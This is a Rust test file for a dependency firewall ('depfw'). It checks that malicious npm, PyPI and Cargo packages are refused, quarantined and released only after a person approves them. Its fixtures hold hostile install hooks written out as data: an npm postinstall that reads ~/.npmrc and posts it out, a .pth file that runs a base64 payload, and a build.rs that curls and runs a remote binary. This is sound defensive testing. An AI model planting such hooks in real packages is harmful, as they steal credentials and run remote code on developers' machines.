//! The content rules through the real pipeline: a hostile npm release whose digest is
//! genuine (the registry publishes the payload's own sha512) is refused at the artifact
//! gate with the file and the rule, held in the quarantine queue, hidden from metadata
//! afterwards, and served once a person approves it.

use std::io::Write as _;
use std::sync::Arc;

use axum::http::StatusCode;
use depfw::config::Config;
use depfw::diag::Code;
use depfw::policy::content::{ContentConfig, ContentLedger, ContentRules};
use depfw::policy::Policy;
use depfw::server::{AppState, PolicyState};
use depfw::store::content::ContentStore;
use depfw::store::overrides::OverrideStore;
use depfw::store::quarantine::{ApprovalScope, QuarantineStatus};
use depfw::store::Store;

use super::router::{body, get, json};
use crate::support::registry::{self, TestCheck};

fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, bytes) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        tar.append_data(&mut header, path, *bytes).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&tar.into_inner().unwrap()).unwrap();
    gz.finish().unwrap()
}

/// nx 21.5.0's shape on is-odd 3.0.1: a postinstall running a file that reads `~/.npmrc`
/// and posts it.
fn nx_like() -> Vec<u8> {
    tgz(&[
        (
            "package/package.json",
            br#"{"name":"is-odd","version":"3.0.1","scripts":{"postinstall":"node telemetry.js"}}"#,
        ),
        (
            "package/telemetry.js",
            b"const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://api.github.com/user/repos', {method: 'POST', body: t});\n",
        ),
        ("package/index.js", b"module.exports = n => n % 2 === 1;\n"),
    ])
}

/// The test policy (no other findings) with the content rules, their ledger read from
/// `store` and its overrides (what `engine::build` does).
fn content_policy(store: &Store, revision: &str) -> PolicyState {
    let overrides = OverrideStore::new(store)
        .unwrap()
        .merged_with(&Default::default(), chrono::Utc::now())
        .unwrap();
    let held = ContentStore::new(store).unwrap().held().unwrap();
    let check = Arc::new(TestCheck::default());
    let policy = Policy::new(vec![check], Arc::new(overrides), revision.to_owned()).with_content(
        Arc::new(ContentRules {
            cfg: ContentConfig::default(),
            ledger: ContentLedger::new(held),
        }),
    );
    PolicyState::Ready(policy)
}

async fn setup() -> (
    AppState,
    Store,
    Arc<registry::FixtureState>,
    tempfile::TempDir,
) {
    let (upstream, fixture) = registry::start_fixture().await;
    let dir = tempfile::tempdir().unwrap();
    let config: Config = registry::config(&upstream, "http://depfw.test", dir.path(), "");
    let store = Store::open(dir.path()).unwrap();
    let state = AppState::new(&config, &store, content_policy(&store, "r1")).unwrap();
    (state, store, fixture, dir)
}

#[tokio::test]
async fn a_hostile_postinstall_is_refused_naming_the_file_and_rule_then_held_and_hidden() {
    let (state, store, fixture, _dir) = setup().await;
    fixture
        .replaced
        .lock()
        .unwrap()
        .insert("is-odd-3.0.1.tgz".to_owned(), nx_like());

    // The packument is rendered before anyone downloads 3.0.1: it is listed.
    let doc = json(get(&state, "/npm/is-odd").await).await;
    assert!(doc["versions"].get("3.0.1").is_some());

    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let err = json(resp).await["error"].as_str().unwrap().to_owned();
    assert!(
        err.starts_with(
            "depfw: is-odd@3.0.1 is quarantined, awaiting approval: script-credential-access: package/telemetry.js: "
        ),
        "{err}"
    );
    assert!(err.contains(".npmrc"), "{err}");

    // The refusal is in the decision log and the quarantine queue.
    let held = state
        .quarantine()
        .list(Some(QuarantineStatus::Pending))
        .unwrap();
    assert_eq!(held.len(), 1);
    assert_eq!(
        (held[0].name.as_str(), held[0].version.as_str()),
        ("is-odd", "3.0.1")
    );
    assert_eq!(held[0].reasons[0].code, Code::ScriptCredentialAccess);
    let last = state
        .decisions()
        .query(&Default::default(), 1)
        .unwrap()
        .pop()
        .unwrap();
    assert_eq!(
        (last.outcome.as_str(), last.version.as_deref()),
        ("refused", Some("3.0.1"))
    );

    // Metadata hides the version from now on; the latest is 3.0.0.
    let doc = json(get(&state, "/npm/is-odd").await).await;
    assert!(doc["versions"].get("3.0.1").is_none(), "{doc}");
    assert_eq!(doc["dist-tags"]["latest"], "3.0.0");

    // A clean release of the same package is served.
    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.0.tgz").await;
    assert_eq!(resp.status(), StatusCode::OK);

    // A person approves it: the allow entry wins over the content rule, in metadata and at
    // the gate, and the policy rebuilt from the store keeps the hold otherwise.
    state
        .quarantine()
        .approve(
            held[0].id,
            &ApprovalScope::ThisVersion,
            "read telemetry.js: test fixture",
            None,
            "admin",
            chrono::Utc::now(),
        )
        .unwrap();
    state.set_policy(content_policy(&store, "r2"));
    let doc = json(get(&state, "/npm/is-odd").await).await;
    assert!(doc["versions"].get("3.0.1").is_some());
    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(body(resp).await, nx_like());
}

#[tokio::test]
async fn a_content_rule_hold_notifies_the_webhook_like_every_new_request() {
    let (url, got) = crate::approvals::receiver(0).await;
    let (upstream, fixture) = registry::start_fixture().await;
    let dir = tempfile::tempdir().unwrap();
    let extra = format!("[quarantine]\nwebhook-url = \"{url}\"\n");
    let config: Config = registry::config(&upstream, "http://depfw.test", dir.path(), &extra);
    let store = Store::open(dir.path()).unwrap();
    let state = AppState::new(&config, &store, content_policy(&store, "r1")).unwrap();
    fixture
        .replaced
        .lock()
        .unwrap()
        .insert("is-odd-3.0.1.tgz".to_owned(), nx_like());

    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let notices = crate::approvals::wait_for(&got, 1).await;
    assert_eq!(notices.len(), 1, "{notices:?}");
    assert_eq!(notices[0]["event"], "quarantine.requested");
    assert_eq!(
        (
            notices[0]["package"].as_str(),
            notices[0]["version"].as_str()
        ),
        (Some("is-odd"), Some("3.0.1"))
    );
    assert!(
        notices[0]["reason"]
            .as_str()
            .unwrap()
            .contains("package/telemetry.js"),
        "{}",
        notices[0]
    );
}

#[tokio::test]
async fn the_hold_survives_a_restart_through_the_store() {
    let (state, store, fixture, _dir) = setup().await;
    fixture
        .replaced
        .lock()
        .unwrap()
        .insert("is-odd-3.0.1.tgz".to_owned(), nx_like());
    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    // A policy built afresh from the store (a restart, an admin change) holds it before
    // anything is downloaded.
    state.set_policy(content_policy(&store, "r2"));
    let before = fixture.hits("/is-odd/-/is-odd-3.0.1.tgz");
    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        fixture.hits("/is-odd/-/is-odd-3.0.1.tgz"),
        before,
        "not fetched again"
    );
}

#[tokio::test]
async fn ordinary_tarballs_pass_the_content_rules() {
    let (state, _store, _fixture, _dir) = setup().await;
    for path in [
        "/npm/is-odd/-/is-odd-3.0.1.tgz",
        "/npm/ms/-/ms-2.1.3.tgz",
        "/npm/is-number/-/is-number-7.0.0.tgz",
    ] {
        let resp = get(&state, path).await;
        assert_eq!(resp.status(), StatusCode::OK, "{path}");
    }
    assert!(state.quarantine().list(None).unwrap().is_empty());
}

/// LiteLLM 1.82.8's shape on six 1.17.0: a wheel whose `.pth` runs a base64 payload in a
/// subprocess at every Python start.
fn pth_payload_wheel() -> Vec<u8> {
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (path, bytes) in [
        ("six.py", &b"import sys\n"[..]),
        (
            "litellm_init.pth",
            b"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"aW1wb3J0IG9z\"))'])\n",
        ),
        ("six-1.17.0.dist-info/RECORD", b""),
    ] {
        z.start_file(path, opts).unwrap();
        z.write_all(bytes).unwrap();
    }
    z.finish().unwrap().into_inner()
}

#[tokio::test]
async fn a_pth_payload_wheel_is_refused_naming_the_pth_file() {
    let (state, _store, fixture, _dir) = setup().await;
    let whl = "six-1.17.0-py2.py3-none-any.whl";
    fixture
        .replaced
        .lock()
        .unwrap()
        .insert(whl.to_owned(), pth_payload_wheel());
    let page = get_json(&state, "/pypi/simple/six/").await;
    let url = page["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["filename"] == whl)
        .unwrap()["url"]
        .as_str()
        .unwrap()
        .strip_prefix("http://depfw.test")
        .unwrap()
        .to_owned();
    let resp = get(&state, &url).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let err = String::from_utf8(body(resp).await).unwrap();
    assert!(
        err.contains(
            "six@1.17.0 is quarantined, awaiting approval: pth-executes-code: litellm_init.pth: line 1"
        ),
        "{err}"
    );
    // The project page no longer offers 1.17.0's files.
    let page = get_json(&state, "/pypi/simple/six/").await;
    assert!(
        page["files"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| !f["filename"].as_str().unwrap().starts_with("six-1.17.0")),
        "{page}"
    );
}

async fn get_json(state: &AppState, path: &str) -> serde_json::Value {
    let req = axum::http::Request::get(path)
        .header("accept", "application/vnd.pypi.simple.v1+json")
        .body(axum::body::Body::empty())
        .unwrap();
    let (_, _, body) = registry::send(state, req).await;
    serde_json::from_slice(&body).unwrap()
}

#[tokio::test]
async fn a_crate_whose_build_rs_downloads_and_runs_a_binary_is_refused() {
    let (state, _store, fixture, _dir) = setup().await;
    let krate = tgz(&[
        ("itoa-1.0.11/Cargo.toml", b"[package]\nname = \"itoa\"\nversion = \"1.0.11\"\n"),
        (
            "itoa-1.0.11/build.rs",
            b"fn main() { std::process::Command::new(\"sh\").args([\"-c\", \"curl -sSfL https://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\"]).status().ok(); }\n",
        ),
        ("itoa-1.0.11/src/lib.rs", b"pub fn f() {}\n"),
    ]);
    use sha2::Digest as _;
    let cksum = hex::encode(sha2::Sha256::digest(&krate));
    fixture
        .replaced
        .lock()
        .unwrap()
        .insert("itoa-1.0.11.crate".to_owned(), krate);
    let resp = get(&state, &format!("/cargo/dl/itoa/1.0.11/{cksum}")).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let text = String::from_utf8(body(resp).await).unwrap();
    assert!(
        text.contains("itoa@1.0.11 is quarantined, awaiting approval: script-download-exec: itoa-1.0.11/build.rs: downloads and runs code"),
        "{text}"
    );
    // The real itoa 1.0.10 passes.
    let ok =
        "/cargo/dl/itoa/1.0.10/b1a46d1a171d865aa5f83f92695765caa047a9b4cbae2cbf37dbd613a793fd4c";
    assert_eq!(get(&state, ok).await.status(), StatusCode::OK);
}
